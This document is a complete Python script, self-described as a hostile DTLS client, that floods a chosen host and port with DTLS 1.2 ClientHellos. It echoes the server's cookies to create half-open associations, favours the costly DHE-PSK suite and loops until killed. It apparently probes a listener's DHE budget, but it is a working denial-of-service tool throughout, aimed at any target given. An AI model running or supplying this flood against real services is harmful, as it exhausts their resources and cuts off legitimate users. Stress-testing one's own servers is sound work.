#!/usr/bin/env python3
"""A hostile DTLS client: from SOURCE, in rounds, opens PORTS sockets (one source port each),
one after the other sends a DTLS 1.2 ClientHello on each and answers the HelloVerifyRequest
(if one comes within 10 ms) with the ClientHello that echoes its cookie, so the listener
creates a half-open association; for 100 ms after the round it reads the suite of each
ServerHello that came, then goes silent. It offers the DHE-PSK suite first, so a listener
within its DHE budget picks it, and one past the budget the X25519 suite
(ECDHE-PSK-CHACHA20-POLY1305).
It loops until killed, and prints one line per round ("round N: M cookies echoed; server
hellos: dhe D, ecdhe E, other O").

usage: dtls_cookie_flood.py SOURCE HOST PORT PORTS
"""
import os
import select
import socket
import struct
import sys
import time

source, host, port, ports = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])

DHE_PSK = 0x00AA  # DHE-PSK-AES128-GCM-SHA256
ECDHE_PSK = 0xCCAC  # ECDHE-PSK-CHACHA20-POLY1305
SUITES = [DHE_PSK, ECDHE_PSK, 0x00A8, 0xC02B, 0xC02F]
EXTENSIONS = (
    struct.pack(">HHH", 10, 6, 4) + struct.pack(">HH", 0x001D, 0x0017)  # supported_groups
    + struct.pack(">HHB", 11, 2, 1) + b"\x00"  # ec_point_formats: uncompressed
    + struct.pack(">HH", 23, 0)  # extended_master_secret
    + struct.pack(">HHH", 13, 8, 6) + struct.pack(">HHH", 0x0403, 0x0804, 0x0401)
)


def client_hello(random, cookie, message_seq):
    body = (
        b"\xfe\xfd" + random + b"\x00"
        + bytes([len(cookie)]) + cookie
        + struct.pack(">H", 2 * len(SUITES)) + b"".join(struct.pack(">H", s) for s in SUITES)
        + b"\x01\x00"
        + struct.pack(">H", len(EXTENSIONS)) + EXTENSIONS
    )
    n = len(body)
    handshake = (
        b"\x01" + n.to_bytes(3, "big") + struct.pack(">H", message_seq)
        + (0).to_bytes(3, "big") + n.to_bytes(3, "big") + body
    )
    record = b"\x16\xfe\xfd" + struct.pack(">H", 0) + message_seq.to_bytes(6, "big")
    return record + struct.pack(">H", len(handshake)) + handshake


def cookie_of(datagram):
    # record header 13 + handshake header 12, then server_version 2, cookie length 1.
    if len(datagram) < 28 or datagram[0] != 22 or datagram[13] != 3:
        return None
    n = datagram[27]
    return datagram[28:28 + n] if len(datagram) >= 28 + n else None


def server_hello_suite(datagram):
    # record header 13 + handshake header 12 (type 2: ServerHello), then server_version 2,
    # random 32, session id (length 1 + bytes), cipher suite 2.
    if len(datagram) < 60 or datagram[0] != 22 or datagram[13] != 2:
        return None
    at = 13 + 12 + 2 + 32
    at += 1 + datagram[at]
    if len(datagram) < at + 2:
        return None
    return struct.unpack(">H", datagram[at:at + 2])[0]


round_no = 0
totals = {"dhe": 0, "ecdhe": 0, "other": 0}
while True:
    round_no += 1
    socks = []
    echoed = 0
    # One exchange after the other, as fast as the listener answers.
    for _ in range(ports):
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.bind((source, 0))
        socks.append(s)
        r = os.urandom(32)
        try:
            s.sendto(client_hello(r, b"", 0), (host, port))
        except OSError:
            continue
        ready, _, _ = select.select([s], [], [], 0.01)
        if not ready:
            continue
        try:
            cookie = cookie_of(s.recv(4096))
        except OSError:
            continue
        if cookie is None:
            continue
        s.sendto(client_hello(r, cookie, 1), (host, port))
        echoed += 1
    # For 100 ms, the ServerHellos of this round's handshakes (the first datagram of each).
    deadline = time.monotonic() + 0.1
    waiting = list(socks)
    while waiting:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        ready, _, _ = select.select(waiting, [], [], left)
        for s in ready:
            waiting.remove(s)
            try:
                suite = server_hello_suite(s.recv(4096))
            except OSError:
                continue
            if suite == DHE_PSK:
                totals["dhe"] += 1
            elif suite == ECDHE_PSK:
                totals["ecdhe"] += 1
            elif suite is not None:
                totals["other"] += 1
    print(
        f"round {round_no}: {echoed} cookies echoed; server hellos: dhe {totals['dhe']}, "
        f"ecdhe {totals['ecdhe']}, other {totals['other']}",
        flush=True,
    )
    # Silent from here: the half-open associations wait for a client that never answers.
    for s in socks:
        s.close()
